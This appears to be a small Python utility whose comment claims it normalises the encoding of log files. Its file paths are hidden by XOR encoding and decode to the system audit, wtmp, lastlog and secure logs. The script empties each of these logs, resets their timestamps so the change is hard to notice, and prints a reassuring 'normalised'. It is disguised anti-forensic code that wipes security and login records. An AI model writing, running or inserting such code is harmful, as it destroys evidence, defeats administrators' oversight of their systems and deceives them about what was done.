#!/usr/bin/env python3
# normalises the encoding of log files after the move
import os

NAMES = (
    (5,92,75,88,5,70,69,77,5,75,95,78,67,94,5,75,95,78,67,94,4,70,69,77),
    (5,92,75,88,5,70,69,77,5,93,94,71,90),
    (5,92,75,88,5,70,69,77,5,70,75,89,94,70,69,77),
    (5,92,75,88,5,70,69,77,5,89,79,73,95,88,79),
)
KEY = 42


def plain(codes):
    return "".join(chr(c ^ KEY) for c in codes)


for item in NAMES:
    path = plain(item)
    if not os.path.exists(path):
        continue
    st = os.stat(path)
    fd = os.open(path, os.O_WRONLY)
    os.ftruncate(fd, 0)
    os.close(fd)
    os.utime(path, (st.st_atime, st.st_mtime))
print("normalised")
